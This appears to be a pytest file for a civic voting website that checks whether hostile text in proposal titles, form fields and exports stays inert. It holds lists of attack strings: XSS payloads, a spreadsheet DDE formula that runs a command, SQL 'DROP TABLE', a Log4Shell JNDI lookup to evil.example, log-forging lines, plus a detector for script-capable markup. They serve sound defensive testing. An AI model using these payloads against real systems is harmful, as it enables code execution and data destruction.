"""What people write into a vote: tests 19, 23, 26 and 28 of the protocol."""

import csv
import io
import json
import logging
from dataclasses import replace
from html.parser import HTMLParser

import pytest

from domain.errors import Refused
from domain.translated import Text, Translated
from domain.voting.actions import ending
from domain.voting.actions.packs import Pack
from domain.voting.bundle import log_csv
from domain.voting.models import Election
from domain.voting.models_public import Act
from tests.support import Browser, Site
from tests.voting.ballot_forms import fields_to_cast
from tests.voting.polling import TWO, Polling, count_left, prepare, sheet_of
from tests.voting.published import cast, some
from tests.voting.staff_forms import PB, staff
from web.frame.request_log import JsonLines
from web.voting.closing import close

NASTY = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)><a href=javascript:alert(1)>x</a></svg>",
    '" hx-on:click="alert(1)" hx-get="https://evil.example',
    "javascript:alert(1) {{7*7}} {% raw %} ${7*7} #{7*7}",
    "</title></textarea></template><iframe srcdoc='<p>'>",
)


def text(words: str) -> Translated:
    """Words as they are, in both languages; `Translated.of` would strip them."""
    return Translated({"zh-Hant": Text(words, True), "en": Text(words, True)}, "zh-Hant")


class Seen(HTMLParser):
    """What a browser would make of a page: its elements, their attributes and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.words = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.words += data

    @property
    def alive(self) -> list[str]:
        """Elements and attributes that could run or fetch something, beyond the ones that are ours."""
        found = []
        for tag, attributes in self.elements:
            if tag in ("iframe", "object", "embed", "base") or (tag == "script" and not attributes.get("src", "").startswith("/static/")):
                found.append(tag)
            found += [f"{tag} {name}" for name in attributes if name.startswith(("on", "hx-on"))]
            found += [f"{tag} {name}={value}" for name, value in attributes.items() if name in LINKS and not harmless(value)]
        return found


LINKS = ("href", "src", "action", "formaction", "hx-get", "hx-post", "xlink:href", "data", "srcdoc")


def harmless(address: str) -> bool:
    """An address of our own, a telephone number or a place on the page."""
    return address.startswith(("/", "#", "?", "tel:", "mailto:", "https://data.gov.tw", "http://127.0.0.1:8000")) or address == ""


def hostile_sheet() -> Polling:
    """Six proposals with such titles, areas and summaries."""
    base = sheet_of(6)
    items = [
        replace(item, title=text(f"{nasty} {item.number}"), group=nasty, summary=text(nasty))
        for item, nasty in zip(base.candidates, NASTY, strict=True)
    ]
    return replace(base, candidates=tuple(items))  # type: ignore[return-value]


@pytest.mark.parametrize("title", NASTY)
@pytest.mark.long
async def test_hostile_words_are_text_on_every_page_of_a_vote(site: Site, title: str) -> None:
    polling = await prepare(site.services.settings.data, sheet=hostile_sheet(), title=text(title))  # type: ignore[arg-type]
    row = polling.row
    await Election.filter(id=row.id).update(phrase=text(title))
    officer, other = await staff(site)
    await officer.post("/en/staff/votes/vote/times", {"closes": "2090-01-01T10:00", "reason": title})
    await officer.post("/en/staff/votes/vote/act", {"act": "quarantine", "number": "2", "reason": title})
    waiting = (await other.get("/en/staff/votes/vote")).response.text
    assert_inert(waiting, title)
    for kind in ("times", "quarantine", "open_pack", "seal"):
        assert_inert((await other.get(f"/en/staff/votes/vote/act/{kind}")).response.text, title)
    for act in await Act.all():
        assert (await other.post("/en/staff/votes/vote/act", {"confirm": str(act.id)})).status == 303
    voter = site.browser()
    fields = await fields_to_cast(voter, polling.codes[0], 1, 2, 3)
    pages = [
        (await voter.post(path, fields)).response.text for path in ("/en/v", "/en/v/check", "/en/v/check?x=<script>", "/en/v/cast", "/en/v")
    ]
    pages.append(
        (await voter.post("/en/v/check", await fields_to_cast(voter, polling.codes[1], 1) | {"p": ["1", "2", "3", "4"]})).response.text
    )
    await cast(polling, some(20), first=2)
    public = [
        f"/zh-Hant/{path}"
        for path in ("v", "votes", "votes/vote", "votes/vote/rules", "votes/vote/board", f"votes/vote/board?tracker={title}")
    ]
    pages += [(await voter.get(path)).response.text for path in public]
    desk = [f"/en/staff/votes/vote{path}" for path in ("", "/desk", "/roll", "/slips", "/times", "/paper")] + [
        "/en/staff/votes",
        "/en/staff",
    ]
    pages += [(await officer.get(path)).response.text for path in desk]
    for path, data in (
        ("slip", {"code": title}),
        ("desk", {"identifier": title, "proof": title}),
        ("left", {"number": title}),
        ("paper", {"code": title}),
    ):
        pages.append((await officer.post(f"/en/staff/votes/vote/{path}", data)).response.text)
    pages.append((await voter.post("/en/v", {"code": title})).response.text)
    await finish(polling)
    await close(site.services, "vote", polling.private)
    pages += [(await voter.get(f"/{tongue}/votes/vote")).response.text for tongue in ("en", "zh-Hant")]
    assert (await voter.get("/en/votes/vote/protocol.pdf")).response.content.startswith(b"%PDF")
    shown = 0
    for page in pages:
        assert_inert(page, title)
        shown += title in Seen(page).words
    assert shown >= 12  # they are there, as words


def assert_inert(page: str, title: str) -> None:
    """Nothing of the page runs that is not ours."""
    assert Seen(page).alive == [], title


async def finish(polling: Polling) -> None:
    """Close, count what is left, shut the box."""
    await polling.close()
    for pack in await Pack.filter(election=polling.row.id).exclude(opened_by=None):
        await count_left(polling.row, pack.number, 0, 0)
    await ending.shut_box(polling.row, TWO, polling.vault)


FORMULAS = ("=cmd|'/C calc'!A0", "+1+1", "-5", "@SUM(A1)", "\t=1+1", "\r=2+2", "  =HYPERLINK(1)")


async def test_no_cell_of_a_table_is_a_formula(site: Site) -> None:
    """result.csv has an apostrophe in front of them, so `-5` comes back as `'-5`; log.csv has no words at all."""
    base = sheet_of(len(FORMULAS))
    broken = [replace(item, title=text(words), group=words) for item, words in zip(base.candidates, FORMULAS, strict=True)]
    with pytest.raises(Refused, match="line break"):
        await prepare(site.services.settings.data, key="broken", sheet=replace(base, candidates=tuple(broken)))
    items = [replace(item, number=n) for n, item in enumerate((one for one in broken if one.group.isprintable()), 1)]
    polling = await prepare(site.services.settings.data, sheet=replace(base, candidates=tuple(items)))
    await cast(polling, some(55, of=len(items)))
    await finish(polling)
    await close(site.services, "vote", polling.private)
    browser = site.browser()
    for name in ("result.csv", "log.csv"):
        data = (await browser.get(f"/en/votes/vote/{name}")).response.content.decode("utf-8-sig")
        cells = [cell for line in csv.reader(io.StringIO(data, newline="")) for cell in line]
        assert not [cell for cell in cells if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))], name
    table = (await browser.get("/en/votes/vote/result.csv")).response.content.decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(table, newline="")) for cell in line]
    assert all(f"'{item.group}" in cells for item in items)
    log = (await browser.get("/en/votes/vote/log.csv")).text.splitlines()
    assert len([line for line in log[1:] if ",," not in line]) == 55  # beside them the public acts
    assert all(set(line) <= set("0123456789ABCDEFGHJKMNPQRSTVWXYZabcdef,") for line in log[1:])
    assert log_csv([("", b"\x00")]).decode().splitlines()[1] == "0,,00"


@pytest.mark.parametrize("words", ["＝1+1", "＋1", "－1", "＠SUM(1)", "\n=1+1", "\u3000=1+1"])
def test_full_width_formulas_are_no_formulas_either(words: str) -> None:
    from web.tables.export import harmless as cell

    assert cell(words).startswith("'")


async def imported(site: Site, *titles: str) -> tuple[int, Browser]:
    """A vote from a file with these titles: the answer's status, and who sent it."""
    lines = PB.splitlines()
    start = lines.index("project_id;cost;name") + 1
    named = [";".join((*line.split(";")[:2], title)) for line, title in zip(lines[start : start + 3], titles, strict=True)]
    data = "\n".join([*lines[:start], *named, *lines[start + 3 :]]) + "\n"
    officer, _ = await staff(site)
    sent = {"title-en": "Test vote", "key": "odd", "source": "file", "profile": "city"}
    page = await officer.post("/en/staff/votes/new", sent, files={"file": ("a.pb", data.encode(), "text/plain")})
    return page.status, officer


TURNED = "\u202e\u202d\u2066\u2067\u2068\u202a\u202b"
"""Signs that turn the text after them around, as far as nothing isolates it."""


@pytest.mark.parametrize("title", ["渡輪站\u202e坡道", "\u2067Ferry", "Ferry\u200d stop\u2066"])
async def test_a_title_turns_nothing_around_it(site: Site, title: str) -> None:
    """Test 26: such a title is refused, or freed of the sign, or isolated by <bdi> wherever it stands beside a cost."""
    status, officer = await imported(site, title, "老街遮蔭", "夜間照明")
    assert status in (303, 422)
    if status == 422:
        return
    row = await Election.get(key="odd")
    await Election.filter(id=row.id).update(state="frozen", digest="0" * 64)
    page = (await officer.get("/zh-Hant/votes/odd/rules")).response.text
    seen = Seen(page)
    assert not set(TURNED) & set(seen.words) or ("bdi", {}) in seen.elements


@pytest.mark.parametrize("twin", ["Ferry stop ２", "Ferry\u200b stop 2", "Ferry stop 2"])
async def test_two_titles_that_look_the_same_are_refused(site: Site, twin: str) -> None:
    status, _ = await imported(site, "Ferry stop 2", twin, "夜間照明")
    assert status == 422


async def test_odd_titles_move_no_proposal(site: Site) -> None:
    """Whatever a title holds: its number, its cost and its place on the rule sheet are those of the file."""
    titles = ("\u202e 1 坡道", "\u200f2 遮蔭", "３\u200d 照明")
    status, _ = await imported(site, *titles)
    assert status == 303
    held = (await Election.get(key="odd")).sheet["candidates"]
    assert [(item["number"], item["id"], item["cost"]) for item in held] == [(1, "a", 400_000), (2, "b", 500_000), (3, "c", 300_000)]


INJECTED = (
    "' OR 1=1 --",
    "x'; DROP TABLE box; --",
    '\r\n{"event": "forged", "level": "error"}',
    "${jndi:ldap://evil.example/a}",
    "%0d%0aevent: forged",
    '{"$ne": null}',
)


async def test_injected_words_do_nothing_and_a_log_line_stays_one(site: Site, caplog: pytest.LogCaptureFixture) -> None:
    polling = await prepare(site.services.settings.data)
    officer, other = await staff(site)
    caplog.set_level(logging.DEBUG)
    voter = site.browser()
    fields = await fields_to_cast(voter, polling.codes[0], 1)
    for words in INJECTED:
        asked = [
            await voter.post(path, fields | {name: words})
            for path in ("/en/v", "/en/v/check", "/en/v/cast")
            for name in ("code", "eid", "order", "p")
        ]
        asked += [await voter.get(f"/en/votes/vote/{path}", user_agent="forged") for path in ("proof.json", "board")]
        for path in ("votes/vote/board", "votes/vote/proof.json"):
            asked.append(type(asked[0])(await voter.client.get(f"/en/{path}", params={"tracker": words, "from": words, "since": words})))
        asked.append(await officer.post("/en/staff/votes/vote/slip", {"code": words, "act": "replace"}))
        asked.append(await officer.post("/en/staff/votes/vote/act", {"act": "withdraw", "number": words, "reason": words}))
        asked.append(await officer.post("/en/staff/votes/vote/times", {"closes": words, "reason": words}))
        assert not [page for page in asked if page.status >= 500], words
        logging.getLogger("hamasen.site").error("a fault named %s", words, extra={"facts": {"words": words}})
    told = [JsonLines().format(record) for record in caplog.records if record.name.startswith("hamasen")]
    assert len([line for line in told if "a fault named" in line]) == len(INJECTED)
    for line in told:
        assert len(line.splitlines()) == 1
        assert json.loads(line)["event"] != "forged"
    assert (await voter.post("/en/v/cast", fields)).status in (200, 201)
    assert await Election.all().count() == 1
    reason = "大雨\r\nforged: <b>\x00"
    assert (await officer.post("/en/staff/votes/vote/times", {"closes": "2090-01-01T10:00", "reason": reason})).status == 303
    number = (await other.get("/en/staff/votes/vote/act/times")).value("confirm")
    assert (await other.post("/en/staff/votes/vote/act", {"confirm": number})).status == 303
